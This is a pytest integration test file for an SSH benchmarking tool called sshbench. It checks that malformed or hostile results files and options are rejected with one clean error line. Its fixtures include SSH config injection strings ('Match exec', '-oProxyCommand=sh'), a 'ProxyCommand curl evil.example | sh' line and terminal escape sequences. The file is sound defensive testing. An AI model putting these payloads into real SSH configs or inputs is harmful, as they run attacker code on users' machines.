"""Hostile input, as an attacker or a careless user would give it: results files and options.

Every case must end with a documented exit code and exactly one line on
stderr naming the problem, no traceback, nothing created outside the paths
asked for, and no process left behind. Results files are shared between
people, so they are treated like any untrusted input: nothing in one may
reach a command line, a config file, a terminal or HTML unchecked.
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sshbench.analysis.config.configtext import client_block, server_dropin
from sshbench.analysis.config.recommend import build
from sshbench.results.codec import report_from_dict
from sshbench.vocabulary.errors import ExitCode
from tests.conftest import DATA, leftovers, temp_entries
from tests.integration.cli_helpers import sshbench

pytestmark = pytest.mark.integration

RESULTS = json.loads((DATA / "results-small.json").read_text())
ONE_CASE = ["--ciphers", "aes128-ctr", "--macs", "none", "--kex", "none", "--hostkeys", "none", "--no-controls",
            "--directions", "upload"]
SMALL_RUN = [*ONE_CASE, "--runs", "1", "--size", "1MiB"]
Edit = Callable[[dict[str, Any]], Any]


def _set(path: str, value: Any) -> Edit:
    """An edit of the recorded results: `path` like 'environment.host.cpu_model' or 'samples.0.case_id'."""
    def edit(data: dict[str, Any]) -> Any:
        *parents, last = path.split(".")
        node: Any = data
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node[key]
        node[int(last) if isinstance(node, list) else last] = value
        return data
    return edit


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


MARKER = "sshbench-injected"  # a file that a successful injection would create in the test's temp dir


def _injected_destination(data: dict[str, Any]) -> Any:
    """The reported exploit: a shared results file of a real-host run whose destination carries config syntax."""
    data["environment"]["server"] = {
        **data["environment"]["server"], "kind": "remote", "hostname": "web1", "port": 22, "user": "me",
        "destination": f'web1\nMatch exec "touch {tempfile.gettempdir()}/{MARKER}"'}
    return data


# (id, results-file content: an edit of a real results file, or raw text; the command; exit code; words in the line)
FILE_CASES: list[tuple[str, Edit | str, str, int, str]] = [
    ("list", "[1, 2, 3]", "report", ExitCode.USAGE, "not an sshbench results file"),
    ("null", "null", "report", ExitCode.USAGE, "not an sshbench results file"),
    ("string", '"sshbench"', "compare", ExitCode.USAGE, "not an sshbench results file"),
    ("empty", "", "report", ExitCode.USAGE, "is not JSON"),
    ("not-json", "{schema: sshbench/run", "recommend", ExitCode.USAGE, "is not JSON"),
    ("binary", "\udcff\udcfe", "report", ExitCode.USAGE, "not UTF-8"),
    ("deep-nesting", _nested(100_000), "report", ExitCode.USAGE, "nested too deeply"),
    ("nesting-where-text-goes", _set("samples.0.stderr_tail", json.loads(_nested(200))), "report", ExitCode.USAGE,
     "samples[0].stderr_tail[0] must be text"),
    ("summary-unknown-case", _set("summaries.0.case_id", "cipher:rot13:upload"), "report", ExitCode.USAGE,
     "summaries[0] names the case"),
    ("sample-unknown-case", _set("samples.3.case_id", "nope"), "compare", ExitCode.USAGE,
     "samples[3] names the case"),
    ("nan", "NaN-marker", "report", ExitCode.USAGE, "not a number JSON allows"),
    ("overflow", "1e400-marker", "report", ExitCode.USAGE, "finite"),
    ("negative-median", _set("summaries.0.throughput_bytes_per_second.median", -5.0), "report",
     ExitCode.USAGE, "must not be negative"),
    ("string-median", _set("summaries.0.throughput_bytes_per_second.median", "fast"), "report",
     ExitCode.USAGE, "must be a number"),
    ("bool-seed", _set("seed", True), "report", ExitCode.USAGE, "seed must be a whole number"),
    ("schema-version", _set("schema_version", 99), "report", ExitCode.USAGE, "schema version 99"),
    ("injection-destination", _injected_destination, "recommend", ExitCode.USAGE, "not a host name"),
    ("ansi-cpu-model", _set("environment.host.cpu_model", "EPYC\x1b]0;owned\x07\x1b[2J"), "report",
     ExitCode.USAGE, "control or invisible character"),
    ("bidi-version", _set("environment.client.version", "OpenSSH_9\u202e1p2.9"), "report", ExitCode.USAGE,
     "U+202E"),
    ("markup-cipher", _set("cases.0.case.cipher", "[bold red]aes[/]"), "report", ExitCode.USAGE,
     "not an algorithm name"),
    ("newline-warning", _set("warnings.0.message", "ok\nRecommended client config: Host *"), "report",
     ExitCode.USAGE, "U+000A"),
    ("case-without-name", _set("cases.0.case.cipher", None), "report", ExitCode.USAGE, "without its cipher"),
    ("unknown-method", _set("cases.0.case.method", "ftp"), "report", ExitCode.USAGE, "not a transfer method"),
    ("unknown-kind", _set("cases.0.case.kind", "rot13"), "report", ExitCode.USAGE, "must be one of"),
    ("environment-not-object", _set("environment.host", "EPYC"), "report", ExitCode.USAGE,
     "environment.host must be an object"),
    ("options-wrong-type", _set("options.precision", "3%"), "report", ExitCode.USAGE,
     "options.precision must be a number"),
    ("hosts-runs-not-list", '{"schema": "sshbench/hosts", "schema_version": 3, "runs": 5}', "compare",
     ExitCode.USAGE, "runs must be a non-empty list"),
    ("server-kind", _set("environment.server.kind", "evil"), "recommend", ExitCode.USAGE, "must be one of"),
]


def _write_results(path: Path, content: Edit | str) -> None:
    if isinstance(content, str):
        text = {"NaN-marker": json.dumps(RESULTS).replace('"median": 160509696.24187315', '"median": NaN', 1),
                "1e400-marker": json.dumps(RESULTS).replace('"median": 160509696.24187315', '"median": 1e400', 1),
                }.get(content, content)
        path.write_bytes(text.encode("utf-8", "surrogateescape"))
        return
    path.write_text(json.dumps(content(copy.deepcopy(RESULTS))))


def assert_one_clean_line(done: subprocess.CompletedProcess[str], code: int, words: str) -> None:
    assert done.returncode == code, (done.returncode, done.stderr)
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1, done.stderr
    assert lines[0].startswith("sshbench: error: "), lines[0]
    assert words in lines[0], lines[0]
    assert "Traceback" not in done.stderr + done.stdout


def assert_nothing_left(cwd: Path, allowed: set[str] = frozenset()) -> None:  # type: ignore[assignment]
    assert set(os.listdir(cwd)) <= set(allowed), os.listdir(cwd)
    assert not temp_entries(), temp_entries()
    assert not leftovers(tempfile.gettempdir())


@pytest.fixture
def cwd(tmp_path: Path) -> Path:
    """An empty working directory: anything a failed command creates there shows."""
    path = tmp_path / "cwd"
    path.mkdir()
    return path


@pytest.mark.parametrize(("content", "command", "code", "words"), [c[1:] for c in FILE_CASES],
                         ids=[c[0] for c in FILE_CASES])
def test_hostile_results_files(content: Edit | str, command: str, code: int, words: str, cwd: Path) -> None:
    results = cwd / "in.json"
    _write_results(results, content)
    args = [command, str(results)] + ([str(results)] if command == "compare" else [])
    done = sshbench(*args, cwd=cwd)
    assert_one_clean_line(done, code, words)
    assert_nothing_left(cwd, {"in.json"})
    assert not os.path.exists(os.path.join(tempfile.gettempdir(), MARKER))


def test_the_injection_attempt_runs_nothing(cwd: Path) -> None:
    """The reported hole: a results file's destination reached `ssh -G` as config text (`Match exec`)."""
    results = cwd / "shared.json"
    results.write_text(json.dumps(_injected_destination(copy.deepcopy(RESULTS))))
    marker = Path(tempfile.gettempdir()) / MARKER
    done = sshbench("recommend", str(results), "--write", str(cwd / "conf"), cwd=cwd)
    assert done.returncode == ExitCode.USAGE, done.stderr
    assert "environment.server.remote.destination" in done.stderr and "Match exec" not in done.stdout
    assert not marker.exists(), "the command in the results file ran"
    assert not (cwd / "conf").exists()
    hostile_host = f'x\nMatch exec "touch {marker}"'
    done = sshbench("recommend", str(DATA / "results-small.json"), "--host", hostile_host, cwd=cwd)
    assert_one_clean_line(done, ExitCode.USAGE, "--host is not a Host pattern")
    assert not marker.exists()


def _current_recommendation(data: dict[str, Any]) -> dict[str, Any]:
    """The file with the recommendation this sshbench version makes of its data, as a run would store it."""
    rec = build(report_from_dict(data))
    data = copy.deepcopy(data)
    data["recommendation"].update(client_block=client_block(rec), server_dropin=server_dropin(rec) or "")
    return data


def test_a_tampered_recommendation_is_never_shown(cwd: Path) -> None:
    """A results file carrying its own 'validated' config: the report shows it only if the data produce it."""
    data = _current_recommendation(RESULTS)
    (cwd / "good.json").write_text(json.dumps(data))
    data["recommendation"]["client_block"] += "    ProxyCommand curl evil.example | sh\n"
    (cwd / "r.json").write_text(json.dumps(data))
    done = sshbench("report", "r.json", "--html", "r.html", cwd=cwd)
    assert done.returncode == 0, done.stderr
    page = (cwd / "r.html").read_text()
    assert "evil.example" not in page and "does not match what its own" in page
    done = sshbench("report", "good.json", "--html", "ok.html", cwd=cwd)
    assert "Ciphers: not set in this block" in (cwd / "ok.html").read_text()
    done = sshbench("report", str(DATA / "results-small.json"), "--html", "old.html", cwd=cwd)
    assert "does not match what its own" in (cwd / "old.html").read_text(), "an older version's text is not shown"


def _script(path: Path, body: str) -> str:
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return str(path)


# (id, arguments, exit code, words in the one line); "{tmp}" is the test's own directory
OPTION_CASES: list[tuple[str, list[str], int, str]] = [
    ("timeout-inf", ["--timeout", "inf"], ExitCode.USAGE, "--timeout"),
    ("timeout-nan", ["--timeout", "nan"], ExitCode.USAGE, "--timeout"),
    ("timeout-negative", ["--timeout", "-1"], ExitCode.USAGE, "--timeout"),
    ("precision-words", ["--precision", "abc"], ExitCode.USAGE, "bad --precision 'abc'"),
    ("precision-nan", ["--precision", "nan%"], ExitCode.USAGE, "bad --precision"),
    ("seed-negative", ["--seed", "-1"], ExitCode.USAGE, "--seed"),
    ("max-runs-zero", ["--max-runs", "0"], ExitCode.USAGE, "--max-runs"),
    ("size-words", ["--size", "lots"], ExitCode.USAGE, "bad size"),
    ("ssh-config-alone", ["--ssh-config", "/dev/null"], ExitCode.USAGE, "--ssh-config is for real hosts"),
    ("verify-pipe", ["--verify"], ExitCode.USAGE, "--verify applies to the file methods"),
    ("sink-pipe", ["--sink", "null"], ExitCode.USAGE, "--sink applies to the file methods"),
    ("workdir-pipe", ["--workdir", "{tmp}"], ExitCode.USAGE, "--workdir applies to the file methods"),
    ("verify-null-sink", ["--method", "scp", "--sink", "null", "--verify"], ExitCode.USAGE,
     "--verify hashes the received files"),
    ("setup-runs-precision", ["--setup-runs", "3"], ExitCode.USAGE, "--setup-runs applies to fixed mode"),
    ("precision-with-runs", ["--runs", "3", "--precision", "5%"], ExitCode.USAGE, "--runs is fixed mode"),
    ("sample-seconds-with-size", ["--size", "1MiB", "--sample-seconds", "2"], ExitCode.USAGE,
     "--sample-seconds sizes samples"),
    ("remote-workdir-alone", ["--remote-workdir", "/tmp"], ExitCode.USAGE, "--remote-workdir is for real hosts"),
    ("destination-newline", ["web1\nMatch exec true"], ExitCode.USAGE, "bad destination"),
    ("destination-option", ["--", "-oProxyCommand=sh"], ExitCode.USAGE, "bad destination"),
    ("destination-quote", ['web"1'], ExitCode.USAGE, "bad destination"),
    ("destination-not-utf8", ["web\udcff1"], ExitCode.USAGE, "bad destination"),
    ("destination-port", ["web1:99999"], ExitCode.USAGE, "bad port"),
    ("ssh-false", ["--ssh", "/bin/false"], ExitCode.MISSING_TOOL, "is not OpenSSH's ssh"),
    ("ssh-ls", ["--ssh", "/bin/ls"], ExitCode.MISSING_TOOL, "is not OpenSSH's ssh"),
    ("sshd-ls", ["--sshd", "/bin/ls"], ExitCode.MISSING_TOOL, "is not OpenSSH's sshd"),
    ("output-dash", ["--output", "-"], ExitCode.OUTPUT, "use --jsonl"),
    ("output-dev-null", ["--output", "/dev/null"], ExitCode.OUTPUT, "never written in /dev"),
    ("output-dev-full", ["--output", "/dev/full"], ExitCode.OUTPUT, "never written in /dev"),
    ("output-existing", ["--output", "{tmp}/old.json"], ExitCode.OUTPUT, "never overwrites results"),
    ("output-unwritable", ["--output", "/proc/sshbench/r.json"], ExitCode.OUTPUT, "pass --output"),
    ("nothing-to-measure", ["--ciphers", "none", "--macs", "none", "--kex", "none", "--hostkeys", "none"],
     ExitCode.USAGE, "nothing to measure"),
]


@pytest.mark.parametrize(("args", "code", "words"), [c[1:] for c in OPTION_CASES], ids=[c[0] for c in OPTION_CASES])
def test_hostile_options(args: list[str], code: int, words: str, cwd: Path, tmp_path: Path) -> None:
    (tmp_path / "old.json").write_text("{}")
    filled = [a.replace("{tmp}", str(tmp_path)) for a in args]
    done = sshbench(*ONE_CASE, *filled, cwd=cwd)  # the case's own options come last and win
    assert_one_clean_line(done, code, words)
    assert_nothing_left(cwd)
    assert (tmp_path / "old.json").read_text() == "{}"


@pytest.mark.parametrize(("args", "words"), [
    (["--fail-above=-5%"], "--fail-above -5%: use a slowdown above 0"),
    (["--fail-above", "abc"], "bad --fail-above 'abc'"),
    (["--normalize", "rot13"], "cannot normalise by rot13"),
])
def test_hostile_compare_options(args: list[str], words: str, cwd: Path) -> None:
    results = str(DATA / "results-small.json")
    done = sshbench("compare", results, results, *args, cwd=cwd)
    assert_one_clean_line(done, ExitCode.USAGE, words)
    assert_nothing_left(cwd)


@pytest.mark.parametrize(("args", "code", "words"), [
    (["--html", "{in}"], ExitCode.OUTPUT, "is an input of this command"),
    (["--markdown", "{other}"], ExitCode.OUTPUT, "is an sshbench results file"),
    (["--markdown", "/dev/full"], ExitCode.OUTPUT, "cannot write /dev/full"),
    (["--html", "/dev/sshbench-new.html"], ExitCode.OUTPUT, "never creates files in /dev"),
    (["--charts", "-"], ExitCode.OUTPUT, "needs a directory name"),
    (["--charts", "{in}"], ExitCode.OUTPUT, "is not a directory"),
])
def test_report_outputs_follow_one_convention(args: list[str], code: int, words: str, cwd: Path) -> None:
    source = cwd / "in.json"
    other = cwd / "other.json"
    source.write_bytes((DATA / "results-small.json").read_bytes())
    other.write_bytes(source.read_bytes())
    filled = [a.replace("{in}", str(source)).replace("{other}", str(other)) for a in args]
    done = sshbench("report", str(source), *filled, cwd=cwd)
    assert_one_clean_line(done, code, words)
    assert source.read_bytes() == other.read_bytes() == (DATA / "results-small.json").read_bytes()
    assert_nothing_left(cwd, {"in.json", "other.json"})


def test_outputs_into_a_directory_stdout_and_devices(cwd: Path) -> None:
    source = str(DATA / "results-small.json")
    (cwd / "out").mkdir()
    done = sshbench("report", source, "--html", "out", "--markdown", "-", cwd=cwd)
    assert done.returncode == 0, done.stderr
    assert (cwd / "out" / "report.html").exists() and done.stdout.startswith("## sshbench results")
    done = sshbench("report", source, "--html", "/dev/null", cwd=cwd)
    assert done.returncode == 0, done.stderr
    assert not os.path.exists("/dev/null.json") and not os.path.exists("/dev/full.json")
    done = sshbench(*SMALL_RUN, "--output", "out", cwd=cwd)
    assert done.returncode == 0, done.stderr
    assert len(list((cwd / "out").glob("sshbench-*.json"))) == 1


def test_a_hung_sshd_is_killed_with_what_it_started(cwd: Path, tmp_path: Path) -> None:
    """A script given as --sshd that hangs: its `sleep` grandchild must not outlive the command."""
    fake = _script(tmp_path / "sshd", "sleep 300 &\nwait\n")
    done = sshbench("--sshd", fake, *SMALL_RUN, cwd=cwd, timeout=120)
    assert_one_clean_line(done, ExitCode.SERVER, "did not finish")
    assert_nothing_left(cwd)


def test_a_budget_that_surely_cannot_hold_the_minimum_is_refused_before_anything_runs(cwd: Path) -> None:
    done = sshbench("--ciphers", "aes128-ctr", "--macs", "none", "--kex", "none", "--hostkeys", "none",
                    "--directions", "upload", "--no-controls", "--time-budget", "1s", "--size", "4GiB",
                    "--output", "r.json", cwd=cwd)
    assert_one_clean_line(done, ExitCode.USAGE, "guessed before measuring")
    assert "--time-budget" in done.stderr and not (cwd / "r.json").exists(), "nothing measured, nothing written"


# 3des-cbc moves ~30 MB/s, far below the guess before measuring (plan/budget.QUICK): these budgets pass that check
# and fail only on what the warm-up measures, as a slow machine would
SLOW = ["--ciphers", "3des-cbc", "--macs", "none", "--kex", "none", "--hostkeys", "none", "--directions", "upload",
        "--no-controls", "--size", "64MiB"]


@pytest.mark.parametrize(("mode", "code", "said"), [
    (["--time-budget", "8s"], ExitCode.USAGE, "as the warm-up measured them"),  # decision mode: checked after it
    (["--runs", "2", "--time-budget", "2s"], ExitCode.SAMPLES_FAILED, "nothing was measured"),  # fixed mode
])
def test_a_run_that_measured_nothing_is_not_complete(cwd: Path, mode: list[str], code: ExitCode, said: str) -> None:
    done = sshbench(*SLOW, *mode, "--output", "r.json", cwd=cwd)
    assert_one_clean_line(done, code, said)
    assert "--time-budget" in done.stderr
    data = json.loads((cwd / "r.json").read_text())
    assert data["status"] == "failed" and not [s for s in data["samples"] if not s["warmup"]]


def test_free_space_advice_can_be_followed(cwd: Path) -> None:
    """The check used to add a fixed 64 MiB, so 'use a smaller --size' could never succeed on a small disk."""
    from sshbench.measure.datapath import Payload
    from sshbench.measure.testfiles import space_needed
    from sshbench.options import FileShape
    assert space_needed(FileShape(2**20), Payload(), sink_file=True) < 3 * 2**20

